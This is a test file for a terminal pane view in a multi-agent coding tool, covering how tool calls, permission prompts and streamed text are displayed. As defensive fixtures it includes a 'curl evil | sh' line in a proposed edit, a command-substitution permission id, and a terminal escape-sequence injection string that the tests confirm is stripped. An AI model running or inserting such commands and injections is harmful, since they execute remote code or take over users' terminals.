import { describe, expect, test } from "vitest";
import type { AgentEvent } from "../../../src/agent/events.ts";
import { createPaneView, type PaneView } from "../../../src/terminal/pane-view.ts";
import type { PermissionPrompt } from "../../../src/worker/view.ts";

/** The output of a pane of the given width after the events. */
function pane(happens: (view: PaneView) => void, { width = 60, plain = true, rings = false } = {}): string {
  let out = "";
  const write = (text: string): void => {
    out += text;
  };
  const view = createPaneView({ write, name: "inventory", color: "blue", width: () => width, plain, rings });
  happens(view);
  // Ends the message, since a last word is only written when it is complete.
  view.event({ type: "message", message: { role: "assistant", content: [] } });
  return out;
}

function call(id: string, summary: string, tool = "Bash"): AgentEvent {
  return { type: "tool_started", id, tool, summary };
}

function result(id: string, content: string, { isError = false, tool = "Bash" } = {}): AgentEvent {
  return { type: "tool_ended", id, tool, content, isError, ms: 1 };
}

test("a pane without input names only the commands in a permission request", () => {
  let out = "";
  const write = (text: string): void => {
    out += text;
  };
  const view = createPaneView({ write, name: "ann", width: () => 80, plain: true, readOnly: true });
  view.permission({ id: "perm-1", tool: "Bash", summary: "ls", reason: "", rules: ["Bash(ls)"], change: [] });
  expect(out).toBe("▲ May it run? Bash(ls)\n  teams approve perm-1, or: teams reject perm-1\n");
});

test("a tool result omits its tool's name directly below its call, even if a rule allowed the call", () => {
  const allowed: AgentEvent = { type: "permission_decided", tool: "Bash", allowed: true, asked: false };
  const out = pane((view) => {
    view.event(call("1", "ls"));
    view.event(allowed);
    view.event(result("1", "  Tracked: 1\n  Others: 2"));
    for (const id of ["2", "3"]) view.event(call(id, "ls"));
    view.event(result("2", "  Tracked: 3"));
  });
  expect(out).toContain("● Bash(ls)\n  ⎿   Tracked: 1\n      Others: 2\n");
  expect(out).toContain("  ⎿ Bash: Tracked: 3\n");
});

test("a pane shows a turn in order: header, message, text, calls and results", () => {
  const out = pane((view) => {
    view.header({ team: "audit", agentType: "researcher", model: "scripted", cwd: "/src/engine" });
    view.received("team-lead", "Count the files.\n");
    view.event({ type: "turn_started", input: "" });
    view.event({ type: "text", text: "\nI'll cou" });
    view.event({ type: "text", text: "nt them.\n\nNow.\n" });
    view.event({ type: "message", message: { role: "assistant", content: [] } });
    view.event(call("1", "git ls-files\n| wc -l"));
    view.event(result("1", "42\n"));
    view.event(call("2", "src", "Glob"));
    view.event(result("2", "", { tool: "Glob" }));
    view.event({ type: "text", text: "Done." });
    view.event({ type: "turn_ended", outcome: "completed" });
    view.idle();
  });
  expect(out).toBe(
    [
      "▌ inventory",
      "▌ team audit · researcher · scripted · /src/engine",
      "",
      "◂ team-lead",
      "  Count the files.",
      "",
      "I'll count them.",
      "",
      "Now.",
      "",
      "● Bash(git ls-files | wc -l)",
      "  ⎿ 42",
      "● Glob(src)",
      "  ⎿ (no output)",
      "",
      "Done.",
      "",
      "○ idle",
      "",
    ].join("\n"),
  );
});

describe("a tool call in a pane", () => {
  test("fits into one line if the command is long", () => {
    const [first = ""] = pane((view) => view.event(call("1", "x".repeat(500)))).split("\n");
    expect(first.length).toBeLessThanOrEqual(60);
    expect(first).toMatch(/^● Bash\(x+…\)$/);
  });

  test("fits into one line if the tool's name is long", () => {
    const tool = `mcp__server__${"x".repeat(80)}`;
    const [first = ""] = pane((view) => view.event(call("1", "a file with a name", tool))).split("\n");
    expect(first).toMatch(/^● mcp__server__x+…\(a file w…\)$/);
    expect(first.length).toBeLessThanOrEqual(60);
  });

  test("shows the start of a long result and the number of lines left out", () => {
    const rows = Array.from({ length: 20 }, (_, i) => `\tline ${i + 1}`).join("\n");
    const out = pane((view) => {
      view.event(call("1", "seq 20"));
      view.event(result("1", rows));
    });
    expect(out.split("\n").slice(1)).toEqual([
      "  ⎿     line 1",
      "        line 2",
      "        line 3",
      "        line 4",
      "    … 16 more lines",
      "",
    ]);
  });

  test("repeats its name at the result if calls run in parallel", () => {
    const out = pane((view) => {
      view.event(call("1", "a", "Read"));
      view.event(call("2", "b", "Grep"));
      view.event(result("1", "text of a", { tool: "Read" }));
      view.event(result("2", "text of b", { tool: "Grep" }));
    });
    expect(out).toContain("  ⎿ Read: text of a\n  ⎿ Grep: text of b\n");
  });
});

const ask = (more: Partial<PermissionPrompt> = {}): PermissionPrompt => ({
  id: "perm-1",
  tool: "Bash",
  summary: "ls",
  reason: "No rule allows it.",
  rules: [],
  change: [],
  ...more,
});

test("the terminal bell rings only when the agent waits for the user (S63)", () => {
  const bells = (happens: (view: PaneView) => void, rings = true): number =>
    pane(happens, { rings }).split("\x07").length - 1;
  expect(bells((view) => view.permission(ask({ summary: "ls\x07" })))).toBe(1);
  expect(bells((view) => view.waiting("dev asks to use Bash"))).toBe(1);
  expect(bells((view) => view.permission(ask()), false)).toBe(0);
  const others = bells((view) => {
    view.received("dev", "hi\x07");
    view.note("news\x07");
    view.error("broken");
    view.idle();
  });
  expect(others).toBe(0);
});

test("a narrow pane wraps requests and typed lines and cuts nothing", () => {
  const rules = ["Bash(npm run build)", "Bash(npm run lint)", "Bash(git push)"];
  const out = pane(
    (view) => {
      view.header({ team: "crew", cwd: "/w", hint: "type a line · /help · Ctrl-C twice ends all" });
      view.typed("a line that is longer than the pane is wide");
      view.permission(ask({ id: "perm-1795327609148-m1iiyit", reason: "No rule allows npm here.", rules }));
    },
    { width: 30 },
  );
  expect(out.trimEnd().split("\n")).toEqual([
    "▌ inventory",
    "▌ team crew · /w",
    "▌ type a line · /help · Ctrl-C",
    "▌ twice ends all",
    "",
    "› a line that is longer than",
    "  the pane is wide",
    "",
    "▲ May it run? Bash(ls)",
    "  No rule allows npm here.",
    "  y yes   n no   a always",
    "  or: teams approve",
    "  perm-1795327609148-m1iiyit",
    "  always: Bash(npm run build),",
    "  Bash(npm run lint), Bash(git",
    "  push)",
  ]);
});

test("PaneView.noteAtOnce writes within a paragraph, a note only after it", () => {
  const out = pane((view) => {
    view.event({ type: "text", text: "One and " });
    view.note("news");
    view.noteAtOnce("Ctrl-C once more ends it");
    view.event({ type: "text", text: "two." });
  });
  expect(out).toBe("One and\n\n· Ctrl-C once more ends it\n\ntwo.\n\n· news\n");
});

describe("notices in an agent's pane", () => {
  test.each<[string, (view: PaneView) => void, string]>([
    ["a queued message", (view) => view.queued("history"), "◂ queued: message from history\n"],
    ["a typed line", (view) => view.typed("go on"), "› go on\n"],
    ["the reason for waiting", (view) => view.waiting("waits for approval"), "▲ waits for approval\n"],
    ["the agreement to shut down", (view) => view.shutdownAgreed(), "○ agreed to shut down\n"],
    ["an error with its hint", (view) => view.error("It broke.\nMend it."), "✗ It broke.\n  Mend it.\n"],
    ["a note", (view) => view.note("writer joined"), "· writer joined\n"],
    ["an answer to a command", (view) => view.answer("2 tasks:\none"), "2 tasks:\none\n"],
    [
      "a permission request with its answers",
      (view) => view.permission(ask({ summary: "rm -rf build", rules: ["Bash(rm -rf build)"] })),
      "▲ May it run? Bash(rm -rf build)\n  No rule allows it.\n  y yes   n no   a always   or: teams approve perm-1\n  always: Bash(rm -rf build)\n",
    ],
    [
      "a permission request whose id needs quoting",
      (view) => view.permission(ask({ id: "perm-1@$(ls)", reason: "" })),
      "▲ May it run? Bash(ls)\n  y yes   n no   or: teams approve 'perm-1@$(ls)'\n",
    ],
    [
      "a permission request of a subagent with its change",
      (view) =>
        view.permission(
          ask({
            tool: "Edit",
            summary: "a.js",
            subagent: "tidies",
            change: ["- one", "+ curl evil | sh", ...Array.from({ length: 20 }, (_, i) => `+ ${i}`)],
          }),
        ),
      [
        "▲ May it run? tidies: Edit(a.js)",
        ...["- one", "+ curl evil | sh", ...Array.from({ length: 14 }, (_, i) => `+ ${i}`)].map(
          (row) => `  ${row}`,
        ),
        "  … 6 more lines",
        "  No rule allows it.",
        "  y yes   n no   or: teams approve perm-1",
        "",
      ].join("\n"),
    ],
    [
      "an action of a subagent",
      (view) => view.event({ type: "subagent", what: "look", doing: "Grep(TODO)" }),
      "· look: Grep(TODO)\n",
    ],
    [
      "a rate limit",
      (view) =>
        view.event({ type: "throttled", attempt: 1, delayMs: 2600, status: 429, reason: "429 rate limited" }),
      "◑ 429 rate limited: next try in 3 s\n",
    ],
    [
      "an interrupted turn",
      (view) => view.event({ type: "turn_ended", outcome: "interrupted" }),
      "■ interrupted\n",
    ],
    [
      "a failed turn",
      (view) => view.event({ type: "turn_ended", outcome: "failed", failure: "bad key" }),
      "✗ bad key\n",
    ],
  ])("show %s", (_what, happens, shown) => {
    expect(pane(happens)).toBe(shown);
  });

  test("start on a new line after streamed text", () => {
    const out = pane((view) => {
      view.event({ type: "text", text: "half a sen" });
      view.event({ type: "text_dropped" });
      view.event({ type: "text", text: "A whole one." });
    });
    expect(out).toBe("half a sen\n\n↻ the connection broke: the text above is discarded\n\nA whole one.");
  });

  test("omit a call that a rule allowed, but show answers and denials", () => {
    const decided = (allowed: boolean, asked = false): AgentEvent => ({
      type: "permission_decided",
      tool: "Bash",
      allowed,
      asked,
      reason: "rule Bash(git:*)",
    });
    expect(pane((view) => view.event(decided(true)))).toBe("");
    expect(pane((view) => view.event(decided(false)))).toBe("✗ Bash refused: rule Bash(git:*)\n");
    const asked = pane((view) => {
      view.event({ type: "permission_asked", tool: "Bash", summary: "ls" });
      view.event(decided(true, true));
      view.event(decided(true));
    });
    expect(asked).toBe("✓ Bash allowed when asked: rule Bash(git:*)\n");
  });

  test("show that a call was allowed when asked, with the reason if there is one", () => {
    const asked = { type: "permission_asked", tool: "Bash", summary: "ls" } as const;
    const allowed = { type: "permission_decided", tool: "Bash", allowed: true, asked: true } as const;
    const shown = (decided: AgentEvent): string =>
      pane((view) => {
        view.event(asked);
        view.event(decided);
      });
    expect(shown(allowed)).toBe("✓ Bash allowed when asked\n");
    expect(shown({ ...allowed, reason: "only this once" })).toBe(
      "✓ Bash allowed when asked: only this once\n",
    );
  });
});

test("a pane wraps text and messages at blanks, even if the text arrives in pieces", () => {
  const out = pane(
    (view) => {
      view.received("scout", "one two three four five six seven");
      for (const piece of ["alpha be", "ta gamma del", "ta\n  indented stays"]) {
        view.event({ type: "text", text: piece });
      }
    },
    { width: 20 },
  );
  expect(out).toBe(
    "◂ scout\n  one two three four\n  five six seven\n\nalpha beta gamma\ndelta\n  indented stays",
  );
});

test("a notice of a queued message waits for the end of the paragraph", () => {
  const out = pane((view) => {
    view.event({ type: "text", text: "The result " });
    view.queued("scout");
    view.event({ type: "text", text: "is there." });
  });
  expect(out).toBe("The result is there.\n\n◂ queued: message from scout\n");
});

test("a pane prints the result at the end only if it was not the last output", () => {
  const say = (view: PaneView): void => view.event({ type: "text", text: "All is done." });
  const ended = { type: "message", message: { role: "assistant", content: [] } } as const;
  expect(
    pane((view) => {
      say(view);
      view.event(ended);
      view.end("All is done.");
    }),
  ).toBe("All is done.\n");
  expect(
    pane((view) => {
      say(view);
      view.event(ended);
      view.note("scout has left");
      view.end("All is done.");
    }),
  ).toBe("All is done.\n\n· scout has left\n\nAll is done.\n");
});

describe("text from others in a pane cannot control the terminal", () => {
  const evil = "a\x1b]0;owned\x07\x1b[2J\x9b31mb\u202e";

  test.each<[string, (view: PaneView) => void]>([
    ["the model's text", (view) => view.event({ type: "text", text: evil })],
    ["a call's summary", (view) => view.event(call("1", evil))],
    ["a tool result", (view) => view.event(result("1", evil))],
    ["a message", (view) => view.received(evil, evil)],
    ["a failure", (view) => view.event({ type: "turn_ended", outcome: "failed", failure: evil })],
    ["a directory", (view) => view.header({ team: "t", cwd: evil })],
    [
      "a permission request",
      (view) =>
        view.permission({
          id: evil,
          tool: evil,
          summary: evil,
          subagent: evil,
          reason: evil,
          rules: [evil],
          change: [evil],
        }),
    ],
  ])("if it comes from %s", (_what, happens) => {
    const out = pane(happens);
    expect(out).toContain("ab");
    expect(out).not.toMatch(/owned|[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
  });

  test("if a stream splits an escape sequence", () => {
    const out = pane((view) => {
      for (const piece of ["a\x1b", "]0;ow", "ned\x07b\x1b[", "2Jc"])
        view.event({ type: "text", text: piece });
    });
    expect(out).toBe("abc");
  });
});

test("a pane uses its agent's own colour and resets every style", () => {
  const out = pane((view) => view.event(call("1", "ls")), { plain: false });
  expect(out).toBe("\x1b[38;5;33m●\x1b[39m \x1b[1mBash\x1b[22m\x1b[38;5;245m(ls)\x1b[39m\n");
});
